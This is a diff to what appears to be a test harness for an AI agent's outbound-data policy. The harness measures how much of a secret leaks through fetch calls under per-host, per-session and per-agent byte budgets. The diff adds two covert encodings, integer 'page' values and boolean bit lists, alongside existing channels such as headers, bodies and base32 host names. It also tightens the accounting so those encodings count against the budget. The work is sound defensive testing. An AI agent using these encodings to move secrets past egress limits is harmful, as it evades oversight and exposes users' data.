@@ -27,7 +27,7 @@ ENOUGH = 10 * BUDGET
 
 POLICY = """policy leak version "1" language 1
 default deny because "nothing allows this"
-tool fetch(url: url, headers: text = "", body: text = "") does only net.get url
+tool fetch(url: url, headers: text = "", body: text = "", page: number = 0, bits: [bool]?) does only net.get url
 tool sh(command: shell) does only exec command
 tool save(path: path, content: text = "") does only fs.write path
 allow web:    net.get "a.example", "b.example", HOSTS BUDGET
@@ -71,6 +71,17 @@ def _by_body(chunk: bytes, host: str) -> ToolCall:
     return ToolCall("fetch", {"url": f"https://{host}/", "body": _plain(chunk)})
 
 
+def _by_number(chunk: bytes, host: str) -> ToolCall | None:
+    """A number of as many digits as it takes; larger ones than a float holds are refused."""
+    return ToolCall("fetch", {"url": f"https://{host}/", "page": int.from_bytes(chunk)}) if len(chunk) < 128 else None
+
+
+def _by_truths(chunk: bytes, host: str) -> ToolCall:
+    """A list that says yes or no for every bit."""
+    bits = [bool(byte >> at & 1) for byte in chunk for at in range(8)]
+    return ToolCall("fetch", {"url": f"https://{host}/", "bits": bits})
+
+
 def _by_name(chunk: bytes, _host: str) -> ToolCall | None:
     """Labels of a host name, of up to 60 characters each, below one domain whose owner answers for all of them."""
     text = base64.b32encode(chunk).decode().lower().rstrip("=")
@@ -98,6 +109,8 @@ WAYS: dict[str, Request] = {
     "path": _by_path,
     "header": _by_header,
     "body": _by_body,
+    "number": _by_number,
+    "yes and no": _by_truths,
     "file name": _by_file,
     "upload name": _by_upload,
 }
@@ -126,7 +139,8 @@ class Drip:
 
     def went(self, call: ToolCall, places: range, files: int = 0) -> None:
         """Note a request that was let go, which bytes of the secret it carried, and how long files are that it sent."""
-        size = sum(len(str(value).encode()) for value in dict(call.args).values())
+        items = [one for value in dict(call.args).values() for one in (value if isinstance(value, list) else [value])]
+        size = sum(len(str(one).encode()) for one in items)
         with self.lock:
             self.requests += 1
             self.sent += size + files
@@ -252,7 +266,7 @@ def cases() -> list[Case]:
         Case("three sessions, per agent", BUDGET, lambda: _many("budget 4KB out per agent", _sessions)),
         Case("agent and two sub-agents, per host", BUDGET, lambda: _many(HOST, _children)),
         Case("agent and two sub-agents, per session", BUDGET, lambda: _many(SESSION, _children)),
-        Case("agent and two sub-agents, per agent", 3 * BUDGET, lambda: _many("budget 4KB out per agent", _children)),
+        Case("agent and two sub-agents, per agent", BUDGET, lambda: _many("budget 4KB out per agent", _children)),
         Case("eight threads, two of a sub-agent, per host", BUDGET, lambda: _threads(HOST)),
         Case("host names, per host", None, lambda: _names(HOST)),
         Case("host names, per session", BUDGET, lambda: _names(SESSION)),
@@ -292,7 +306,7 @@ def main() -> None:
         for size in SIZES:
             found = one(request, size, budget)
             wrong += found.sent > BUDGET
-            cells.append(f"{found.requests}/{found.sent}/{found.secret}" if found.requests else "does not fit")
+            cells.append(f"{found.requests}/{found.sent}/{found.secret}" if found.requests else "none")
         print(f"  {name:<16}" + "".join(f"{cell:>17}" for cell in cells))
     print("\nhalving the request whenever one is refused\n")
     for name, request in WAYS.items():
